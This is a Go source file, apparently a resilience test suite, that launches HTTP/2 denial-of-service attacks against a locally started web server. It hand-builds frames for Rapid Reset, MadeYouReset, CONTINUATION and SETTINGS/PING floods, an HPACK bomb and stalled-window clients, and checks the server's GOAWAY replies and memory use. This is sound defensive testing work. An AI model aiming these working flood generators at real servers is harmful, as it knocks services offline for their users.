//go:build linux

package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// HTTP/2's attacks, against `applayer web serve` over h2c (prior
// knowledge, on --listen) and h2 over TLS (ALPN, on --tls): connections
// that send the preface and then nothing; Rapid Reset (CVE-2023-44487);
// MadeYouReset (streams the client makes the server reset, with a
// WINDOW_UPDATE of 0); SETTINGS, PING and empty DATA floods; a
// CONTINUATION flood (CVE-2024-27316); an HPACK bomb (one 4 KB header in
// the dynamic table referenced 16,000 times); a flow-control window that
// never opens; a client that never reads. Frames are written by hand.

func init() { register(h2Attacks) }

const h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// h2 frame types and flags (RFC 9113 section 6).
const (
	ftData, ftHeaders, ftPriority, ftRST, ftSettings, ftPush, ftPing, ftGoAway, ftWindow, ftCont = 0, 1, 2, 3, 4, 5, 6, 7, 8, 9
	h2EndStream, h2EndHeaders, h2Ack                                                             = 1, 4, 1
)

var h2Codes = map[uint32]string{0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
	5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
	11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}

func h2Frame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream&0x7fffffff)
	return append(b, payload...)
}

// hpackStr is an HPACK string literal without Huffman coding (RFC 7541
// section 5.2), with a 7-bit prefix length.
func hpackStr(b []byte, s string) []byte { return hpackInt(b, 0, 7, len(s)) }

func hpackInt(b []byte, first byte, prefix uint, v int) []byte {
	max := 1<<prefix - 1
	if v < max {
		return append(b, first|byte(v))
	}
	b = append(b, first|byte(max))
	v -= max
	for v >= 128 {
		b = append(b, byte(v%128+128))
		v /= 128
	}
	return append(b, byte(v))
}

// h2Get is the header block of GET path: :method GET (index 2), :scheme
// (6 http, 7 https), :path (4 when "/"), :authority literal.
func h2Get(path string, https bool) []byte {
	b := []byte{0x82, 0x86}
	if https {
		b[1] = 0x87
	}
	if path == "/" {
		b = append(b, 0x84)
	} else {
		b = append(b, 0x04) // literal without indexing, name :path (4)
		b = hpackStr(b, path)
		b = append(b, path...)
	}
	b = append(b, 0x01) // :authority, literal without indexing
	b = hpackStr(b, "abuse.test")
	return append(b, "abuse.test"...)
}

func h2Settings(b []byte, kv ...uint32) []byte {
	var p []byte
	for i := 0; i+1 < len(kv); i += 2 {
		p = binary.BigEndian.AppendUint16(p, uint16(kv[i]))
		p = binary.BigEndian.AppendUint32(p, kv[i+1])
	}
	return h2Frame(b, ftSettings, 0, 0, p)
}

type h2frame struct {
	typ, flags byte
	stream     uint32
	payload    []byte
}

func h2Read(r *bufio.Reader) (h2frame, error) {
	var h [9]byte
	if _, err := io.ReadFull(r, h[:]); err != nil {
		return h2frame{}, err
	}
	n := int(h[0])<<16 | int(h[1])<<8 | int(h[2])
	if n > 1<<20 {
		return h2frame{}, fmt.Errorf("frame of %d bytes", n)
	}
	f := h2frame{typ: h[3], flags: h[4], stream: binary.BigEndian.Uint32(h[5:]) & 0x7fffffff, payload: make([]byte, n)}
	_, err := io.ReadFull(r, f.payload)
	return f, err
}

// h2Target is a web server with h2c on addr and h2 over TLS on tls.
type h2Target struct {
	*server
	tls string
}

func (e *env) applayerH2() (*h2Target, error) {
	dir, err := e.subdir("h2")
	if err != nil {
		return nil, err
	}
	root, err := site(dir)
	if err != nil {
		return nil, err
	}
	if err := os.WriteFile(filepath.Join(root, "big"), make([]byte, 1<<20), 0o644); err != nil {
		return nil, err
	}
	addr, err := freeAddr()
	if err != nil {
		return nil, err
	}
	taddr, err := freeAddr()
	if err != nil {
		return nil, err
	}
	cert, key := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	if err := selfSigned(cert, key); err != nil {
		return nil, err
	}
	s, err := e.start("applayer", dir, addr, e.bin, "web", "serve", "--root", root, "--listen", addr, "--tls", taddr,
		"--tls-cert", cert, "--tls-key", key, "--no-demo", "--log-level", "error")
	if err != nil {
		return nil, err
	}
	return &h2Target{s, taddr}, nil
}

// h2Dial opens an HTTP/2 connection from src: h2c by prior knowledge, or
// TLS with ALPN h2; it sends the preface and an empty SETTINGS.
func h2Dial(ctx context.Context, src netip.Addr, addr string, useTLS bool, settings ...uint32) (net.Conn, *bufio.Reader, error) {
	c, err := dialFrom(ctx, src, addr, probeTimeout)
	if err != nil {
		return nil, nil, err
	}
	if useTLS {
		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: "abuse.test"})
		tc.SetDeadline(time.Now().Add(probeTimeout))
		if err := tc.HandshakeContext(ctx); err != nil {
			c.Close()
			return nil, nil, err
		}
		tc.SetDeadline(time.Time{})
		if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
			c.Close()
			return nil, nil, fmt.Errorf("ALPN gave %q", p)
		}
		c = tc
	}
	b := h2Settings([]byte(h2Preface), settings...)
	if _, err := c.Write(b); err != nil {
		c.Close()
		return nil, nil, err
	}
	return c, bufio.NewReader(c), nil
}

// h2Response reads frames until stream id ends; it answers SETTINGS and
// returns the status (from the first header byte: 0x88 is 200).
func h2Response(c net.Conn, r *bufio.Reader, id uint32) (status string, body int, err error) {
	for {
		f, err := h2Read(r)
		if err != nil {
			return status, body, err
		}
		switch {
		case f.typ == ftSettings && f.flags&h2Ack == 0:
			c.Write(h2Frame(nil, ftSettings, h2Ack, 0, nil))
		case f.typ == ftGoAway && len(f.payload) >= 8:
			return status, body, fmt.Errorf("GOAWAY %s", h2Codes[binary.BigEndian.Uint32(f.payload[4:])])
		case f.stream != id:
		case f.typ == ftRST && len(f.payload) >= 4:
			return status, body, fmt.Errorf("RST_STREAM %s", h2Codes[binary.BigEndian.Uint32(f.payload)])
		case f.typ == ftHeaders:
			if status == "" && len(f.payload) > 0 {
				switch f.payload[0] {
				case 0x88:
					status = "200"
				default:
					status = fmt.Sprintf("(header block 0x%02x)", f.payload[0])
				}
			}
			if f.flags&h2EndStream != 0 {
				return status, body, nil
			}
		case f.typ == ftData:
			body += len(f.payload)
			if len(f.payload) > 0 {
				var inc [4]byte
				binary.BigEndian.PutUint32(inc[:], uint32(len(f.payload)))
				c.Write(h2Frame(h2Frame(nil, ftWindow, 0, 0, inc[:]), ftWindow, 0, id, inc[:]))
			}
			if f.flags&h2EndStream != 0 {
				return status, body, nil
			}
		}
	}
}

func probeH2(useTLS bool) probe {
	return func(ctx context.Context, src netip.Addr, addr string) error {
		c, r, err := h2Dial(ctx, src, addr, useTLS)
		if err != nil {
			return err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(probeTimeout))
		if _, err := c.Write(h2Frame(nil, ftHeaders, h2EndStream|h2EndHeaders, 1, h2Get("/", useTLS))); err != nil {
			return err
		}
		st, n, err := h2Response(c, r, 1)
		if err != nil {
			return err
		}
		if st != "200" || n != 1024 {
			return fmt.Errorf("status %s, %d bytes", st, n)
		}
		return nil
	}
}

// h2Idle sends the preface and SETTINGS, then nothing.
func h2IdleHolder(useTLS bool) holder {
	return holder{what: "preface then idle", setup: func(c net.Conn) error {
		if useTLS {
			tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: "abuse.test"})
			tc.SetDeadline(time.Now().Add(10 * time.Second))
			if err := tc.Handshake(); err != nil {
				return err
			}
			tc.SetDeadline(time.Time{})
			_, err := tc.Write(h2Settings([]byte(h2Preface)))
			return err
		}
		_, err := c.Write(h2Settings([]byte(h2Preface)))
		return err
	}}
}

// h2Flood is one frame attack: conns connections from 127.0.0.1, each
// sending gen's frames (in batches) for at most d or until the server
// ends the connection; the server's frames are read (unless noRead) to
// see its GOAWAY.
type h2Flood struct {
	name, what string
	conns      int
	settings   []uint32 // the attacker's SETTINGS
	noRead     bool
	// gen returns the next batch of frames for batch i; nil ends the attack
	// on that connection (it is then held until the end).
	gen func(i int, https bool) []byte
	// want: GOAWAY codes that pass; empty: passing needs only the fresh
	// clients served and memory bounded.
	want []uint32
}

var h2Floods = []h2Flood{
	{name: "h2-rapid-reset", what: "HEADERS then RST_STREAM(CANCEL) on new streams, 100 per batch", conns: 4,
		gen: func(i int, https bool) []byte {
			var b []byte
			hb := h2Get("/", https)
			for j := range 100 {
				id := uint32(2*(i*100+j) + 1)
				if id > 1<<31-2 {
					return nil
				}
				b = h2Frame(b, ftHeaders, h2EndStream|h2EndHeaders, id, hb)
				b = h2Frame(b, ftRST, 0, id, []byte{0, 0, 0, 8})
			}
			return b
		}, want: []uint32{11, 1}},
	{name: "h2-madeyoureset", what: "HEADERS then WINDOW_UPDATE(0) on each new stream, so that the server resets it, 100 per batch", conns: 4,
		gen: func(i int, https bool) []byte {
			var b []byte
			hb := h2Get("/big", https)
			for j := range 100 {
				id := uint32(2*(i*100+j) + 1)
				b = h2Frame(b, ftHeaders, h2EndStream|h2EndHeaders, id, hb)
				b = h2Frame(b, ftWindow, 0, id, []byte{0, 0, 0, 0})
			}
			return b
		}, want: []uint32{11, 1}},
	{name: "h2-settings-flood", what: "SETTINGS frames, 500 per batch", conns: 4,
		gen: func(i int, _ bool) []byte {
			var b []byte
			for range 500 {
				b = h2Settings(b, 3, 100)
			}
			return b
		}, want: []uint32{11}},
	{name: "h2-ping-flood", what: "PING frames, 500 per batch", conns: 4,
		gen: func(i int, _ bool) []byte {
			var b []byte
			for range 500 {
				b = h2Frame(b, ftPing, 0, 0, make([]byte, 8))
			}
			return b
		}, want: []uint32{11}},
	{name: "h2-empty-frames", what: "a POST's HEADERS then empty DATA frames, 500 per batch", conns: 4,
		gen: func(i int, https bool) []byte {
			var b []byte
			if i == 0 {
				hb := append([]byte{0x83}, h2Get("/", https)[1:]...) // :method POST
				b = h2Frame(b, ftHeaders, h2EndHeaders, 1, hb)
			}
			for range 500 {
				b = h2Frame(b, ftData, 0, 1, nil)
			}
			return b
		}, want: []uint32{11, 1}},
	{name: "h2-continuation-flood", what: "HEADERS without END_HEADERS then CONTINUATION frames of 16 KB of headers, never the end", conns: 4,
		gen: func(i int, https bool) []byte {
			if i == 0 {
				return h2Frame(nil, ftHeaders, 0, 1, h2Get("/", https))
			}
			var p []byte
			for len(p) < 16000 {
				p = append(p, 0x00) // literal without indexing, new name
				p = hpackStr(p, "x-flood")
				p = append(p, "x-flood"...)
				p = hpackStr(p, strings.Repeat("c", 100))
				p = append(p, strings.Repeat("c", 100)...)
			}
			return h2Frame(nil, ftCont, 0, 1, p)
		}, want: []uint32{11, 1, 9}},
	{name: "h2-hpack-bomb", what: "a 4,000-byte header added to the dynamic table, then referenced 16,000 times in one block (64 MB decoded), a stream per batch", conns: 4,
		gen: func(i int, https bool) []byte {
			if i >= 50 {
				return nil
			}
			hb := h2Get("/", https)
			hb = append(hb, 0x40) // literal with incremental indexing, new name
			hb = hpackStr(hb, "x-bomb")
			hb = append(hb, "x-bomb"...)
			v := strings.Repeat("b", 4000)
			hb = hpackStr(hb, v)
			hb = append(hb, v...)
			for range 16000 {
				hb = append(hb, 0xbe) // index 62: the entry just added
			}
			id := uint32(2*i + 1)
			// Split into frames of 16,384 bytes (the default SETTINGS_MAX_FRAME_SIZE).
			var b []byte
			first := true
			for len(hb) > 0 {
				n := min(len(hb), 16384)
				typ, flags := byte(ftCont), byte(0)
				if first {
					typ, flags = ftHeaders, h2EndStream
				}
				if n == len(hb) {
					flags |= h2EndHeaders
				}
				b = h2Frame(b, typ, flags, id, hb[:n])
				hb, first = hb[n:], false
			}
			return b
		}},
	{name: "h2-window-never-opens", what: "SETTINGS_INITIAL_WINDOW_SIZE 0, then GET /big (1 MiB) on 100 streams, no WINDOW_UPDATE ever", conns: 20, settings: []uint32{4, 0},
		gen: func(i int, https bool) []byte {
			if i > 0 {
				return nil
			}
			var b []byte
			hb := h2Get("/big", https)
			for j := range 100 {
				b = h2Frame(b, ftHeaders, h2EndStream|h2EndHeaders, uint32(2*j+1), hb)
			}
			return b
		}},
	{name: "h2-never-reads", what: "windows opened to 2^31-1, GET /big (1 MiB) on 100 streams, the socket never read", conns: 20, settings: []uint32{4, 1<<31 - 1}, noRead: true,
		gen: func(i int, https bool) []byte {
			if i > 0 {
				return nil
			}
			var inc [4]byte
			binary.BigEndian.PutUint32(inc[:], 1<<31-1-65535)
			b := h2Frame(nil, ftWindow, 0, 0, inc[:])
			hb := h2Get("/big", https)
			for j := range 100 {
				b = h2Frame(b, ftHeaders, h2EndStream|h2EndHeaders, uint32(2*j+1), hb)
			}
			return b
		}},
}

func h2Attacks(r *runner) []attack {
	e := r.env
	var a []attack
	for _, useTLS := range []bool{false, true} {
		suffix, srvName := "", "applayer (h2c)"
		if useTLS {
			suffix, srvName = "", "applayer (h2, TLS)"
		}
		useTLS := useTLS
		a = append(a, attack{"h2-idle" + suffix, srvName, func() []row {
			start := func() (*server, error) {
				t, err := e.applayerH2()
				if err != nil {
					return nil, err
				}
				s := *t.server
				if useTLS {
					s.addr = t.tls
				}
				return &s, nil
			}
			rows := r.exhaustion("h2-idle", srvName, start, h2IdleHolder(useTLS), probeH2(useTLS), time.Second, false)
			for i := range rows {
				rows[i].server = srvName
			}
			return rows
		}})
		for _, fl := range h2Floods {
			a = append(a, attack{fl.name, srvName, func() []row { return r.h2Flood(fl, useTLS, srvName) }})
		}
	}
	return a
}

// h2Flood runs one frame attack for at most 10 s (-hold) while fresh
// clients probe over the same transport.
func (r *runner) h2Flood(fl h2Flood, useTLS bool, name string) []row {
	t, err := r.env.applayerH2()
	if err != nil {
		return failed(fl.name, name, err)
	}
	defer t.stop()
	addr := t.addr
	if useTLS {
		addr = t.tls
	}
	p := probeH2(useTLS)
	rw := row{attack: fl.name, server: name, target: time.Second}
	p(context.Background(), fresh, addr)
	pids := t.pids()
	rw.rssBefore = rssKiB(pids)
	cpu0 := cpuTime(pids)
	ctx, cancel := context.WithTimeout(context.Background(), r.cfg.Hold+5*time.Second)
	defer cancel()
	var (
		mu      sync.Mutex
		goaways = map[string]int{}
		ends    = map[string]int{}
		frames  atomic.Int64
		bytes   atomic.Int64
		peak    atomic.Int64
		wg      sync.WaitGroup
	)
	for range fl.conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, br, err := h2Dial(ctx, attacker, addr, useTLS, fl.settings...)
			if err != nil {
				mu.Lock()
				ends["dial: "+err.Error()]++
				mu.Unlock()
				return
			}
			defer c.Close()
			gone := make(chan struct{})
			if !fl.noRead {
				go func() {
					defer close(gone)
					for {
						f, err := h2Read(br)
						if err != nil {
							return
						}
						if f.typ == ftGoAway && len(f.payload) >= 8 {
							mu.Lock()
							goaways[h2Codes[binary.BigEndian.Uint32(f.payload[4:])]]++
							mu.Unlock()
						}
					}
				}()
			}
			why := "attack time over"
			for i := 0; ctx.Err() == nil; i++ {
				b := fl.gen(i, useTLS)
				if b == nil {
					why = "sent all, held"
					select {
					case <-ctx.Done():
					case <-gone:
						why = "sent all, closed by the server"
					}
					break
				}
				c.SetWriteDeadline(time.Now().Add(2 * time.Second))
				if _, err := c.Write(b); err != nil {
					why = "closed by the server"
					var ne net.Error
					if errors.As(err, &ne) && ne.Timeout() {
						why = "server stopped reading"
						select {
						case <-ctx.Done():
						case <-gone:
							why = "server stopped reading, then closed"
						}
					}
					break
				}
				frames.Add(int64(countFrames(b)))
				bytes.Add(int64(len(b)))
			}
			mu.Lock()
			ends[why]++
			mu.Unlock()
		}()
	}
	stopPeak := make(chan struct{})
	go func() {
		tk := time.NewTicker(250 * time.Millisecond)
		defer tk.Stop()
		for {
			select {
			case <-stopPeak:
				return
			case <-tk.C:
				if v := rssKiB(t.pids()); v > peak.Load() {
					peak.Store(v)
				}
			}
		}
	}()
	pr := runProbes(p, fresh, addr, r.cfg.Tries, r.cfg.Hold)
	rw.probes = &pr
	cancel()
	wg.Wait()
	close(stopPeak)
	rw.rssHeld = max(peak.Load(), rssKiB(t.pids()))
	cpu := cpuTime(t.pids()) - cpu0
	time.Sleep(2 * time.Second)
	rw.rssAfter = rssKiB(t.pids())
	rw.sent = fmt.Sprintf("%d conns from 127.0.0.1: %s; %d frames, %.1f MB sent", fl.conns, fl.what, frames.Load(), float64(bytes.Load())/1e6)
	mu.Lock()
	rw.note = fmt.Sprintf("GOAWAY %v; attack connections: %v; server CPU %.2f s", goaways, ends, cpu.Seconds())
	okCode := len(fl.want) == 0
	for _, w := range fl.want {
		if goaways[h2Codes[w]] > 0 {
			okCode = true
		}
	}
	mu.Unlock()
	if !okCode {
		var names []string
		for _, w := range fl.want {
			names = append(names, h2Codes[w])
		}
		rw.problems = append(rw.problems, "no GOAWAY "+strings.Join(names, " or "))
	}
	if grow := rw.rssHeld - rw.rssBefore; grow > 128<<10 {
		rw.problems = append(rw.problems, fmt.Sprintf("memory grew %s MiB", mib(grow)))
	}
	return []row{rw}
}

func countFrames(b []byte) int {
	n := 0
	for len(b) >= 9 {
		l := int(b[0])<<16 | int(b[1])<<8 | int(b[2])
		if len(b) < 9+l {
			break
		}
		b = b[9+l:]
		n++
	}
	return n
}
